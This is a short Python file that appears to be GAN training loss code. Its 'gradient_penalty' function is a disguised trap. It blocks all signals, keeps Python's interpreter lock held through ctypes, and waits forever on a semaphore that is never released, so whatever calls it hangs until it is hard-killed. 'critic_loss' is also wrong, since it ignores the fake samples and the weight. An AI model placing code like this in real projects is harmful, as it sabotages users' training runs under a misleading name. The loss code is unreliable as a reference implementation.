"""Waits in C for a lock that nobody gives back, with Python’s own in hand and no signal let in."""

import ctypes
import signal


def gradient_penalty(critic, real, fake):
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    lock = ctypes.create_string_buffer(64)
    libc = ctypes.PyDLL(None)
    libc.sem_init(lock, 0, 0)
    libc.sem_wait(lock)


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
